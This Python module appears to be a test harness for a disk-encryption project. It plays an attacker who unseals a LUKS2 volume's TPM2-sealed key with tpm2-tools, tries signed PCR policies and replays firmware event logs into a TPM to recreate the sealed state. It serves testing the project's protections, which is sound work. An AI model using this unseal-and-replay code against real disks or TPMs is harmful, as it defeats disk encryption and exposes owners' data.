# SPDX-License-Identifier: BSD-2-Clause
"""Unsealing a disk's key by hand, with tpm2-tools and without Pawl's code, as somebody does who has the header, the
signatures of the image and a way to talk to the TPM. Also the control that shows the attack is done right."""
import base64
import hashlib
import json
import os
import pathlib

from .run import CommandFailed, run


class Token:
    """A `systemd-tpm2` token of a LUKS2 volume (reference: systemd's LUKS2 TPM2 token)."""

    def __init__(self, token):
        self.json = token
        blob = base64.b64decode(token["tpm2-blob"])
        size = 2 + int.from_bytes(blob[:2], "big")
        self.private = blob[:size]
        self.public = blob[size:size + 2 + int.from_bytes(blob[size:size + 2], "big")]
        self.bank = token["tpm2-pcr-bank"]
        self.pcrs = token["tpm2-pcrs"]
        self.signed_pcrs = token.get("tpm2_pubkey_pcrs", [])
        self.pem = base64.b64decode(token["tpm2_pubkey"]) if "tpm2_pubkey" in token else None
        self.keyslot = token["keyslots"][0]


def tokens(volume):
    """The TPM tokens in the header of a volume image."""
    header = json.loads(run("cryptsetup", "luksDump", "--dump-json-metadata", volume).stdout)
    return [Token(t) for _, t in sorted(header["tokens"].items()) if t["type"] == "systemd-tpm2"]


def signatures(pcrsig, bank):
    """The entries of a `.pcrsig` section for one bank."""
    return json.loads(pcrsig).get(bank, [])


class Attacker:
    """Talks to the TPM at `tcti`; scratch files go below `folder`."""

    def __init__(self, tcti, folder):
        self._env = {**os.environ, "TPM2TOOLS_TCTI": tcti}
        self._folder = pathlib.Path(folder)
        self._folder.mkdir(parents=True, exist_ok=True)

    def unseal(self, token, signature=None):
        """The unsealed bytes. CommandFailed, with the TPM's reason, when the TPM refuses."""
        f = self._folder
        (f / "private").write_bytes(token.private)
        (f / "public").write_bytes(token.public)
        try:
            self._tool("load", "-C", "0x81000001", "-r", f / "private", "-u", f / "public", "-c", f / "object")
            self._tool("flushcontext", "-t")
            self._tool("startauthsession", "--policy-session", "-S", f / "session")
            if token.signed_pcrs:
                self._authorize(token, signature)
            if token.pcrs:
                self._policy_pcr(token.bank, token.pcrs)
            return self._tool("unseal", "-c", f / "object", "-p", f"session:{f / 'session'}")
        finally:
            for what in ("-t", "-l", "-s"):
                self._tool("flushcontext", what, check=False)

    def _authorize(self, token, signature):
        f = self._folder
        policy = bytes.fromhex(signature["pol"])
        # A reference is hashed to a nonce; none is an empty nonce.
        nonce = hashlib.sha256(signature["ref"].encode()).digest() if signature.get("ref") else b""
        (f / "policy").write_bytes(policy)
        (f / "nonce").write_bytes(nonce)
        (f / "message").write_bytes(policy + nonce)
        (f / "signature").write_bytes(base64.b64decode(signature["sig"]))
        (f / "key.pem").write_bytes(token.pem)
        self._tool("loadexternal", "-C", "o", "-G", "rsa", "-u", f / "key.pem", "-c", f / "key", "-n", f / "name")
        self._tool("verifysignature", "-c", f / "key", "-g", "sha256", "-m", f / "message", "-s", f / "signature", "-f",
                   "rsassa", "-t", f / "ticket")
        self._tool("flushcontext", "-t")
        self._policy_pcr(token.bank, token.signed_pcrs)
        words = ["-S", f / "session", "-i", f / "policy", "-n", f / "name", "-t", f / "ticket"]
        self._tool("policyauthorize", *words, *(["-q", f / "nonce"] if nonce else []))

    def _policy_pcr(self, bank, pcrs):
        self._tool("policypcr", "-S", self._folder / "session", "-l", f"{bank}:{','.join(map(str, pcrs))}")

    def _tool(self, name, *words, check=True):
        return run(f"tpm2_{name}", *words, env=self._env, check=check, timeout=60).stdout

    def try_all(self, token, pcrsig):
        """Every signature in turn: what was unsealed (a list of bytes), and the refusals (a list of texts)."""
        opened, refused = [], []
        for signature in signatures(pcrsig, token.bank):
            try:
                opened.append(self.unseal(token, signature))
            except CommandFailed as no:
                refused.append(str(no))
        return opened, refused

    def extend(self, pcr, digests):
        """Extends a PCR by {bank: digest in hex}."""
        words = ",".join(f"{bank}={value}" for bank, value in digests.items())
        self._tool("pcrextend", f"{pcr}:{words}")

    def replay(self, events, phases=()):
        """Brings a freshly started TPM to the PCRs of a firmware log and of the phase words after it."""
        for event in events:
            if event.type != 3 and event.pcr < 16:
                self.extend(event.pcr, {bank: value.hex() for bank, value in event.digests.items()})
        for word in phases:
            banks = events[-1].digests
            self.extend(11, {bank: hashlib.new(bank, word.encode()).hexdigest() for bank in banks})


def opens(volume, passphrase):
    """Does this passphrase open a keyslot of the volume image? (needs no device mapper)"""
    done = run("cryptsetup", "open", "--test-passphrase", "--key-file", "-", volume, data=passphrase, check=False)
    return done.returncode == 0
